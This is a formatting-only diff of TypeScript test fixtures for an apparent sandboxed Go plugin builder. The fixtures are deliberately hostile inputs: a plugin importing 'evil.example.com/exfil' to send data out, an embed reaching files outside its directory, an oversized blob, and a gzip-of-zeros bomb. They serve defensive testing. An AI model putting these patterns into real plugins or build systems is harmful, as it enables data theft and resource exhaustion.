@@ -34,7 +34,8 @@ export const NEVER_ENDS: Record<string, string> = {
 export function hugeArtifact(mb: number): Record<string, string | Buffer> {
   return {
     'go.mod': goMod('huge'),
-    'plugin.go': 'package main\n\nimport _ "embed"\n\n//go:embed blob.bin\nvar Blob []byte\n\n// Size keeps Blob alive.\nfunc Size() int { return len(Blob) }\n\nfunc main() {}\n',
+    'plugin.go':
+      'package main\n\nimport _ "embed"\n\n//go:embed blob.bin\nvar Blob []byte\n\n// Size keeps Blob alive.\nfunc Size() int { return len(Blob) }\n\nfunc main() {}\n',
     'blob.bin': Buffer.alloc(mb * 1024 * 1024, 1),
   };
 }
@@ -45,7 +46,8 @@ export function hugeArtifact(mb: number): Record<string, string | Buffer> {
  */
 export const NETWORK_IMPORT: Record<string, string> = {
   'go.mod': goMod('exfil'),
-  'plugin.go': 'package main\n\nimport "evil.example.com/exfil"\n\n// Send is looked up by the host.\nfunc Send() { exfil.Send() }\n\nfunc main() {}\n',
+  'plugin.go':
+    'package main\n\nimport "evil.example.com/exfil"\n\n// Send is looked up by the host.\nfunc Send() { exfil.Send() }\n\nfunc main() {}\n',
 };
 
 /** Reaches outside its directory through //go:embed (a read of the host's or image's files). */
@@ -270,9 +272,11 @@ export async function gzipOfZeros(bytes: number): Promise<Buffer> {
   const chunks: Buffer[] = [];
   const block = Buffer.alloc(1024 * 1024);
   await pipeline(
-    Readable.from((function* () {
-      for (let left = bytes; left > 0; left -= block.length) yield left >= block.length ? block : block.subarray(0, left);
-    })()),
+    Readable.from(
+      (function* () {
+        for (let left = bytes; left > 0; left -= block.length) yield left >= block.length ? block : block.subarray(0, left);
+      })(),
+    ),
     createGzip({ level: 9 }),
     async (source: AsyncIterable<Buffer>) => {
       for await (const chunk of source) chunks.push(chunk);
